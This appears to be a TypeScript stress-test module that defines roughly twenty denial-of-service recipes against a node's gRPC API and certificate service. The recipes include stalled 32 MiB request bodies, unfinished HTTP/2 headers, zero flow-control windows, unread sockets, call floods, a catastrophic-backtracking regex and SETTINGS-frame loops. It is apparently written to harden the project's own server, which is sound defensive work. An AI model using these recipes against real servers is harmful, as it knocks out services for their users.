/**
 * Attacks by malicious clients, each as a program that runs for a given time. A recipe uses only what its caller may call:
 * either a certificate with os:reader, or no certificate.
 */
import { encode } from '../../src/rpc/codec.ts'
import { frameHeader, sealFrame } from '../../src/rpc/frame.ts'
import type { Methods } from '../../src/rpc/messages.ts'
import { methodShape } from '../../src/rpc/schema.ts'
import { flag, frameType } from '../../src/wire/http2/frame.ts'
import { RawClient } from '../../tests/rpc/http2/raw-client.ts'

/** The target of an attack, and the attacker's credentials. */
export interface Victim {
  readonly host: string
  /** PEM; absent for an attacker without a certificate. */
  readonly cert?: string
  readonly key?: string
  /** A container whose logs are rotated continuously, for the recipe that follows them. */
  readonly container?: string
}

/** One kind of attack. */
export interface Recipe {
  readonly port: number
  readonly what: string
  /** Follows logs that are rotated continuously; the bench rotates them, because that needs root on the node. */
  readonly rotates?: boolean
  run(victim: Victim, over: () => boolean): Promise<void>
}

const grpc = { 'content-type': 'application/grpc', te: 'trailers' }
const apid = 50_000
const trustd = 50_001
const chunk = 16_384

const wait = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds))

class Attacker {
  readonly #clients = new Set<RawClient>()
  constructor(
    readonly victim: Victim,
    readonly port: number,
    readonly over: () => boolean,
  ) {}

  /** Opens a connection; undefined when the server refused it. */
  async connect(settings: { initialWindowSize?: number } = {}): Promise<RawClient | undefined> {
    const { host, cert, key } = this.victim
    try {
      const client = await RawClient.connect({ hostname: host, port: this.port, tls: { ...(cert && key && { cert, key }) } }, { settings })
      this.#clients.add(client)
      return client
    } catch {
      return undefined
    }
  }

  /** Keeps `count` connections open and runs `use` on each, until the time is over. */
  async keep(count: number, settings: { initialWindowSize?: number }, use: (client: RawClient) => Promise<void>): Promise<void> {
    const one = async () => {
      while (!this.over()) {
        const client = await this.connect(settings)
        if (client) await use(client).catch(() => {})
        client?.close()
        if (client) this.#clients.delete(client)
        await wait(20)
      }
    }
    await Promise.all(Array.from({ length: count }, one))
  }

  /** Waits until the client is closed or the time is over. */
  async hold(client: RawClient): Promise<void> {
    while (!client.closed && !this.over()) await wait(50)
  }

  /** Opens a call, and sends its request message if there is one. */
  open(client: RawClient, stream: number, path: keyof Methods, body?: object, metadata: Record<string, string> = {}, end = true): void {
    client.request(stream, { ':path': `/${path}`, ...grpc, ...metadata }, flag.END_HEADERS)
    if (!body) return
    const frame = sealFrame(encode(methodShape(`/${path}`).request, body, frameHeader))
    for (let at = 0; at < frame.length; at += chunk) {
      const last = at + chunk >= frame.length
      client.frame(frameType.DATA, last && end ? flag.END_STREAM : 0, stream, frame.subarray(at, at + chunk))
    }
  }
}

type Use = (attacker: Attacker, client: RawClient) => Promise<void>

function recipe(port: number, what: string, connections: number, settings: { initialWindowSize?: number }, use: Use): Recipe {
  return {
    port,
    what,
    async run(victim, over) {
      const attacker = new Attacker(victim, port, over)
      await attacker.keep(connections, settings, (client) => use(attacker, client))
    },
  }
}

/** Announces requests of 32 MiB and sends them one flow-control window at a time, without ever completing one. */
async function half(attacker: Attacker, client: RawClient, calls: number, path: keyof Methods, metadata: Record<string, string> = {}) {
  const promise = Buffer.from([0, 0x01, 0xf0, 0, 0])
  for (let n = 0; n < calls; n++) {
    attacker.open(client, 1 + 2 * n, path, undefined, metadata)
    client.frame(frameType.DATA, 0, 1 + 2 * n, promise)
  }
  for (let sent = 0; sent < 31 << 20 && !client.closed && !attacker.over(); sent += chunk) {
    for (let n = 0; n < calls; n++) client.frame(frameType.DATA, 0, 1 + 2 * n, Buffer.alloc(chunk))
    const updates = client.frames.filter((line) => line.startsWith('WINDOW_UPDATE')).length
    for (
      let rest = 0;
      rest < 20 && !client.closed && client.frames.filter((line) => line.startsWith('WINDOW_UPDATE')).length === updates;
      rest++
    )
      await wait(10)
  }
  await attacker.hold(client)
}

async function hang(
  attacker: Attacker,
  client: RawClient,
  calls: number,
  path: keyof Methods,
  body: object,
  metadata: Record<string, string> = {},
): Promise<void> {
  for (let n = 0; n < calls; n++) attacker.open(client, 1 + 2 * n, path, body, metadata)
  await attacker.hold(client)
}

/** Makes calls, `flying` of them concurrently, until the time is over. */
async function flood(attacker: Attacker, client: RawClient, flying: number, path: keyof Methods, body: object): Promise<void> {
  let next = 1
  const begin = () => {
    if (client.closed || attacker.over()) return
    attacker.open(client, next, path, body)
    next += 2
  }
  for (let n = 0; n < flying; n++) begin()
  while (!client.closed && !attacker.over()) {
    await wait(1)
    const ends = client.frames.filter((line) => line.startsWith('RST_STREAM') || line.endsWith(' end')).length
    client.frames.length = 0
    for (let n = 0; n < ends; n++) begin()
  }
}

const watch = { namespace: 'network', type: 'AddressStatuses.net.talos.dev', apiVersion: 1 }
/** The most expensive pattern for ids that is accepted: a program of the maximum length, every step of which is executed. */
const pattern = { idQuery: { regexp: '(.?.?){990}!' } }
/** The maximum number of fields of a request, each of four bytes. */
const fields = { labelQuery: [{ terms: [{ key: 'a', op: 3, value: Array<string>(9_900).fill('four') }] }] }

/** All recipes, by name. */
export const recipes: Record<string, Recipe> = {
  'trustd-bodies': recipe(trustd, 'unfinished requests of 32 MiB to trustd without a token, 16 concurrent', 4, {}, (attacker, client) =>
    half(attacker, client, 4, 'securityapi.SecurityService/Certificate'),
  ),
  'trustd-connections': recipe(
    trustd,
    'connections to trustd with one unfinished call each, 600 concurrent',
    600,
    {},
    async (attacker, client) => {
      attacker.open(client, 1, 'securityapi.SecurityService/Certificate')
      await attacker.hold(client)
    },
  ),
  bodies: recipe(apid, 'unfinished requests of 32 MiB, 25 concurrent', 5, {}, (attacker, client) =>
    half(attacker, client, 5, 'machine.MachineService/Hostname'),
  ),
  'bodies-nodes': recipe(apid, 'unfinished requests of 32 MiB to several nodes, 25 concurrent', 5, {}, (attacker, client) =>
    half(attacker, client, 5, 'machine.MachineService/Hostname', { nodes: '127.0.0.1,localhost' }),
  ),
  'long-id': recipe(apid, 'logs of a service whose id has 60 KB, repeated', 2, {}, async (attacker, client) => {
    await flood(attacker, client, 4, 'machine.MachineService/Logs', { id: 'a'.repeat(60_000) })
  }),
  elements: recipe(apid, 'requests of 25,000 empty list elements, repeated', 1, {}, async (attacker, client) => {
    client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0, 0x10, 0, 0]))
    const body = sealFrame(Buffer.concat([Buffer.alloc(frameHeader), Buffer.from('0a00'.repeat(25_000), 'hex')]))
    for (let n = 0; !client.closed && !attacker.over(); n++) {
      attacker.open(client, 1 + 2 * n, 'storage.StorageService/BlockDeviceWipe')
      for (let at = 0; at < body.length; at += chunk)
        client.frame(frameType.DATA, at + chunk >= body.length ? flag.END_STREAM : 0, 1 + 2 * n, body.subarray(at, at + chunk))
      await client.until(() =>
        client.frames.some((line) => line.startsWith(`HEADERS ${1 + 2 * n}`) || line.startsWith(`RST_STREAM ${1 + 2 * n}`)),
      )
    }
  }),
  patterns: recipe(apid, 'List with the most expensive pattern for ids, 64 concurrent', 2, {}, async (attacker, client) => {
    const parameters = { namespace: 'runtime', type: 'KernelParamStatuses.runtime.talos.dev', options: pattern }
    await flood(attacker, client, 32, 'cosi.resource.State/List', parameters)
  }),
  'pattern-watches': recipe(apid, 'Watch of the calls themselves with that pattern, 1,000 concurrent', 4, {}, async (attacker, client) => {
    const calls = { namespace: 'runtime', type: 'APICalls.runtime.ichor.dev', apiVersion: 1, options: pattern }
    await flood(attacker, client, 250, 'cosi.resource.State/Watch', calls)
  }),
  'large-watches': recipe(apid, 'Watch with the maximum number of fields, 1,024 concurrent', 4, {}, (attacker, client) =>
    hang(attacker, client, 256, 'cosi.resource.State/Watch', { ...watch, options: fields }),
  ),
  'large-headers': recipe(apid, 'Watch with 15 KiB of metadata, 1,024 concurrent', 4, {}, (attacker, client) =>
    hang(attacker, client, 256, 'cosi.resource.State/Watch', watch, { 'x-large': 'x'.repeat(15 * 1024) }),
  ),
  'half-headers': recipe(apid, 'connections with unfinished headers of 128 KiB, 400 concurrent', 400, {}, async (attacker, client) => {
    for (let n = 0; n < 8; n++) client.frame(n === 0 ? frameType.HEADERS : frameType.CONTINUATION, 0, 1, Buffer.alloc(chunk))
    await attacker.hold(client)
  }),
  unread: recipe(apid, 'the kernel log with a flow-control window of 0, 750 concurrent', 3, { initialWindowSize: 0 }, (attacker, client) =>
    hang(attacker, client, 250, 'machine.MachineService/Dmesg', { follow: true }),
  ),
  'unread-logs': recipe(
    apid,
    'logs of a service with a flow-control window of 0, 750 concurrent',
    3,
    { initialWindowSize: 0 },
    (attacker, client) =>
      hang(attacker, client, 250, 'machine.MachineService/Logs', { namespace: 'system', id: 'machined', follow: true, tailLines: -1 }),
  ),
  'unread-socket': recipe(apid, 'the kernel log without reading the socket, 60 connections', 60, {}, async (attacker, client) => {
    client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
    client.pause()
    await hang(attacker, client, 100, 'machine.MachineService/Dmesg', { follow: true })
  }),
  'unread-socket-logs': recipe(apid, 'logs of a service without reading the socket, 60 connections', 60, {}, async (attacker, client) => {
    client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
    client.pause()
    await hang(attacker, client, 100, 'machine.MachineService/Logs', { namespace: 'system', id: 'machined', follow: true, tailLines: -1 })
  }),
  endless: recipe(apid, 'Watch, 1,024 concurrent on 12 connections', 12, {}, (attacker, client) =>
    hang(attacker, client, 256, 'cosi.resource.State/Watch', watch),
  ),
  connections: recipe(apid, 'connections with one call each, 600 concurrent', 600, {}, (attacker, client) =>
    hang(attacker, client, 1, 'cosi.resource.State/Watch', watch),
  ),
  calls: recipe(apid, 'short calls, 512 concurrent', 2, {}, (attacker, client) =>
    flood(attacker, client, 256, 'machine.MachineService/Hostname', {}),
  ),
  audit: recipe(apid, 'calls that are denied and therefore written to the audit log, 128 concurrent', 2, {}, (attacker, client) =>
    flood(attacker, client, 64, 'machine.MachineService/Reboot', {}),
  ),
  'compressed-logs': {
    ...recipe(
      apid,
      'logs that are rotated and compressed continuously, 8 followers',
      2,
      { initialWindowSize: 0x3fffffff },
      async (attacker, client) => {
        client.frame(frameType.WINDOW_UPDATE, 0, 0, Buffer.from([0x3f, 0, 0, 0]))
        const body = { namespace: 'k8s.io', driver: 1, id: attacker.victim.container ?? '', follow: true, tailLines: 0 }
        const forget = setInterval(() => client.frames.splice(0), 1000)
        await hang(attacker, client, 4, 'machine.MachineService/Logs', body)
        clearInterval(forget)
      },
    ),
    rotates: true,
  },
  settings: recipe(apid, 'SETTINGS frames in a loop, with 256 calls open', 4, {}, async (attacker, client) => {
    for (let n = 0; n < 256; n++) attacker.open(client, 1 + 2 * n, 'cosi.resource.State/Watch', watch)
    for (let n = 0; !client.closed && !attacker.over(); n++) {
      for (let burst = 0; burst < 100; burst++) client.settings({ initialWindowSize: (n + burst) % 2 })
      await wait(1)
    }
  }),
}
